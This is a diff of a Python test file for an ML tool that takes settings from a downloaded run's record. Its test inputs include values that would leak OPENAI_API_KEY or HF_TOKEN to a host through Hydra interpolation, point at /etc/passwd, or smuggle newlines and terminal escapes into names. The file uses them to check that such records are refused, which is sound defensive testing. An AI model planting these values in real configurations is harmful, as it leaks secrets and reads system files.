@@ -1,4 +1,6 @@
-"""The record of a downloaded run sends nothing and reads no file elsewhere; what it asks for is named."""
+"""Commands on a checkpoint take settings of its run, but no request and no file of a downloaded one."""
+
+from __future__ import annotations
 
 import json
 import re
@@ -31,18 +33,17 @@ def host(monkeypatch):
 
 @pytest.fixture
 def run(tmp_path, monkeypatch):
-    """A run's folder as one downloads it: `run(lines)` writes its record and is the checkpoint."""
+    """A run's folder as one downloads it: `run(*lines)` writes its record and is the checkpoint."""
     folder = tmp_path / "downloaded"
-    (folder / ".hydra").mkdir(parents=True)
-    checkpoint = folder / "checkpoints" / "last"
-    checkpoint.mkdir(parents=True)
-    target = {"name": "data/pocket", "revision": None, "fingerprint": "x", "tokenizer": ""}
-    config = {"format": 1, "drafter": "eagle", "settings": {}, "target": target}
-    (checkpoint / "config.json").write_text(json.dumps(config))
-    (tmp_path / "elsewhere").mkdir()
+    checkpoint = folder / "checkpoints" / "best"
+    for made in (folder / ".hydra", checkpoint, tmp_path / "elsewhere"):
+        made.mkdir(parents=True)
     monkeypatch.chdir(tmp_path / "elsewhere")
 
-    def write(*lines):
+    def write(*lines, **target):
+        origin = {"name": "data/pocket", "revision": None, "fingerprint": "x", "tokenizer": ""} | target
+        config = {"format": 1, "drafter": "eagle", "settings": {}, "target": origin}
+        (checkpoint / "config.json").write_text(json.dumps(config))
         (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(list(lines)))
         return checkpoint
 
@@ -109,8 +110,8 @@ def test_requests_and_files_of_a_record_are_asked_for(run, host, line, tmp_path)
 
 def test_generate_takes_only_the_template_of_a_record(run, host):
     line = f"prompts.files=['http://{host}/${{ oc.env:OPENAI_API_KEY}}.jsonl']"
-    argv = [f"checkpoint={run(line, 'prompts.template=none', 'prompts.path=/etc/passwd')}"]
-    assert with_run_settings(argv, CONF, "generate") == ["prompts.template=none", *argv]
+    checkpoint = run(line, "prompts.template=none", "prompts.path=/etc/passwd")
+    assert found(checkpoint, "generate") == ["prompts.template=none"]
 
 
 def test_the_question_holds_options_that_answer_it(run, tmp_path):
@@ -119,19 +120,20 @@ def test_the_question_holds_options_that_answer_it(run, tmp_path):
     settings = ["prompts=jsonl", f"prompts.path='{file}'", "prompts.columns={prompt: question}"]
     argv = [f"checkpoint={run(*settings, 'prompts.limit=7')}"]
     given = shlex.split(refused(argv, "a file outside of the run's folder").partition("give ")[2])
-    found = rewrite(with_run_settings([*given, *argv], CONF, "score_checkpoint"), CONF)
+    taken = rewrite(with_run_settings([*given, *argv], CONF, "score_checkpoint"), CONF)
     expected = compose([*settings, "prompts.limit=7", "checkpoint=x"], CONF, "score_checkpoint").prompts
-    assert compose(found, CONF, "score_checkpoint").prompts == expected
+    assert compose(taken, CONF, "score_checkpoint").prompts == expected
 
 
 def test_a_request_that_was_given_here_before_is_taken(run, tmp_path, monkeypatch):
     """As often as it is asked for, of any copy of the record, but not with another override."""
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
     given = ["drafter=eagle", "prompts=jsonl", f"prompts.path='{tmp_path}/p.jsonl'", "prompts.dataset='a/b'"]
-    argv = [f"checkpoint={run(*given)}"]
+    checkpoint = run(*given)
+    argv = [f"checkpoint={checkpoint}"]
     own_runs.remember(given)
     own_runs.remember(given)
-    assert with_run_settings(argv, CONF, "score_checkpoint") == [*given[1:], *argv]
+    assert found(checkpoint) == given[1:]
     (noted,) = (tmp_path / "state").rglob("runs")
     assert (len(noted.read_text().splitlines()), noted.stat().st_mode & 0o777) == (1, 0o600)
     run(*given, "prompts.limit=1")
@@ -171,18 +173,16 @@ def test_a_damaged_record_is_one_line(run, record, tmp_path):
 def test_an_experiment_is_one_of_ours(run, experiment, tmp_path):
     (tmp_path / "evil").mkdir()
     (tmp_path / "evil" / "x.yaml").write_text("prompts: {files: ['http://127.0.0.1:9/x']}")
-    argv = [f"checkpoint={run(f'experiment={experiment}')}"]
-    assert with_run_settings(argv, CONF, "score_checkpoint") == argv
+    assert found(run(f"experiment={experiment}")) == []
 
 
 def test_files_of_the_run_and_relative_paths_are_taken(run, tmp_path):
     inside = write_prompts(tmp_path / "downloaded" / "p.jsonl", 3)
     settings = [f"prompts.path='{inside}'", "prompts.heldout='data/prompts/heldout.jsonl'", "prompts.limit=2"]
     settings += ["prompts.sources=[{path: 'a.jsonl'}]", "prompts.template_options={a: true, b: 'é\\''}"]
-    argv = [f"checkpoint={run(*settings)}"]
-    found = with_run_settings(argv, CONF, "score_checkpoint")
-    expected = compose(settings + argv, CONF, "score_checkpoint").prompts
-    assert compose(found, CONF, "score_checkpoint").prompts == expected
+    taken = found(run(*settings))
+    prompts = [compose([*o, "checkpoint=x"], CONF, "score_checkpoint").prompts for o in (taken, settings)]
+    assert prompts[0] == prompts[1]
 
 
 @pytest.mark.parametrize(
@@ -191,11 +191,10 @@ def test_files_of_the_run_and_relative_paths_are_taken(run, tmp_path):
 def test_a_limit_of_a_record_is_a_number(run, said, tmp_path):
     checkpoint = run()
     (tmp_path / "downloaded" / "prompts.json").write_text(json.dumps({"too_long": said}))
-    argv = [f"checkpoint={checkpoint}"]
     if not said:
-        assert with_run_settings(argv, CONF, "score_checkpoint") == argv
+        assert found(checkpoint) == []
         return
-    refused(argv, r"give prompts\.max_tokens")
+    refused([f"checkpoint={checkpoint}"], r"give prompts\.max_tokens")
 
 
 def test_a_stores_target_is_a_name_too(tmp_path, host):
@@ -232,3 +231,117 @@ def test_a_downloaded_configuration_shows_no_environment(tmp_path, monkeypatch):
         file.write_text(text)
         with pytest.raises(UserError, match="damaged"):
             recorded.read_config(tmp_path)
+
+
+PROMPTS = ["prompts=jsonl", "prompts.path='a b.jsonl'"]
+TRAINED = ["drafter=eagle", "target=hf", *PROMPTS]
+
+
+@pytest.fixture
+def best(run):
+    """A checkpoint in a run's folder."""
+    return run(*TRAINED, name="/a/target")
+
+
+def found(folder, name="score_checkpoint", *given):
+    """Overrides that a command on this checkpoint takes from its run."""
+    argv = [f"checkpoint={folder}", *given]
+    overrides = with_run_settings(argv, CONF, name)
+    assert overrides[-len(argv) :] == argv
+    return overrides[: -len(argv)]
+
+
+@pytest.mark.parametrize(
+    ("name", "given", "expected"),
+    [
+        ("score_checkpoint", [], ["target=/a/target", *PROMPTS]),
+        ("lab/context", [], ["target=/a/target", *PROMPTS]),
+        ("generate", [], ["target=/a/target"]),
+        ("score_checkpoint", ["target=/mine"], PROMPTS),
+        ("score_checkpoint", ["target.path=/mine", "prompts.path=/mine"], []),
+        ("score_checkpoint", ["target.dtype=float32", "prompts.seed=1"], ["target=/a/target", *PROMPTS]),
+        ("verify_served", [], PROMPTS),
+        ("score_checkpoint", ["--cfg", "job"], []),
+        ("export", [], []),
+        ("config", [], []),
+    ],
+)
+def test_unnamed_target_and_prompts_are_as_in_training(best, capsys, name, given, expected):
+    assert found(best, name, *given) == expected
+    assert ("as in training: " in capsys.readouterr().out) == bool(expected)
+
+
+def test_prompts_of_an_experiment_are_taken(run):
+    def prompts(*overrides):
+        return compose(rewrite([*overrides, "checkpoint=x"], CONF), CONF, "score_checkpoint").prompts
+
+    best = run("experiment=smollm2", "target=smollm2_gguf", "prompts.heldout_share=0.2")
+    trained = compose(["experiment=smollm2", "prompts.heldout_share=0.2"], CONF).prompts
+    assert prompts(*found(best)) == trained
+    assert len(trained.sources) == 2
+    best = run("experiment=smollm2", *PROMPTS, "prompts.sources=null")
+    assert prompts(*found(best)).path == "a b.jsonl"
+    assert found(best, "generate") == []
+    # `prompts.path: null` of this one cannot be given on a command line, and need not be.
+    assert found(run("experiment=quick"), "limit") == ["prompts.self=128"]
+
+
+def test_store_is_read_by_the_target_that_wrote_it(tmp_path):
+    (tmp_path / "x").mkdir()
+    origin = {"target": "/a/target", "revision": "abc"}
+    (tmp_path / "x" / "manifest.json").write_text(json.dumps({"origin": origin}))
+    target = ["target=/a/target", "target.revision='abc'"]
+    for argv in ([f"store={tmp_path / 'x'}"], [f"stores={tmp_path}", "sample=0"]):
+        assert with_run_settings(argv, CONF, "inspect_data") == [*target, *argv]
+    for argv in ([f"store={tmp_path / 'x'}", "target=/mine"], [f"store={tmp_path}"]):
+        assert with_run_settings(argv, CONF, "inspect_data") == argv
+
+
+def test_checkpoint_outside_its_run_still_knows_its_target(best, tmp_path):
+    moved = best.rename(tmp_path / "moved")
+    assert found(moved, "limit") == ["target=/a/target"]
+    for other in ("nowhere", "a/b/score.json", ""):
+        assert found(other, "verify_served") == []
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        {"name": "me/${oc.env:HF_TOKEN}"},
+        {"name": "'me/${oc.env:HF_TOKEN}'"},
+        {"name": "me/x\x1b[2J"},
+        {"name": "me/x\nseed=1"},
+        {"name": "http://127.0.0.1:9/x"},
+        {"name": "~/model"},
+        {"revision": "${oc.env:HF_TOKEN}"},
+        {"revision": "{a: b}"},
+    ],
+)
+def test_malformed_target_name_is_refused(run, capsys, target):
+    """Hydra would resolve it and send it to a hub, or a terminal would read its escapes."""
+    with pytest.raises(UserError, match="no name of a target") as error:
+        found(run(**{"name": "/a/target"} | target), "generate")
+    assert str(error.value).isprintable()
+    assert capsys.readouterr().out == ""
+
+
+def test_revision_is_text(run):
+    overrides = rewrite(found(run(name="owner/name", revision="1234567"), "generate"), CONF)
+    target = compose([*overrides, "checkpoint=x", "prompt=x"], CONF, "generate").target
+    assert (target.path, target.revision) == ("owner/name", "1234567")
+
+
+def test_held_out_prompts_that_were_too_long_stay_out(best):
+    for held_out, more in ((0, []), (2, ["prompts.max_tokens=511"])):
+        too_long = {"tokens": 511, "train": 9, "held_out": held_out}
+        (best.parents[1] / "prompts.json").write_text(json.dumps({"too_long": too_long}))
+        assert found(best) == ["target=/a/target", *PROMPTS, *more]
+
+
+@pytest.mark.parametrize(("template", "more"), [("none", ["prompts.template=none"]), ("chat", []), (3, [])])
+def test_published_drafter_of_a_base_model_needs_no_template(best, tmp_path, template, more):
+    published = best.rename(tmp_path / "published")
+    (published / "recipe.json").write_text(json.dumps({"template": template}))
+    for name in ("generate", "score_checkpoint", "advise"):
+        assert found(published, name) == ["target=/a/target", *more]
+    assert found(published, "generate", "prompts.template=chat") == ["target=/a/target"]
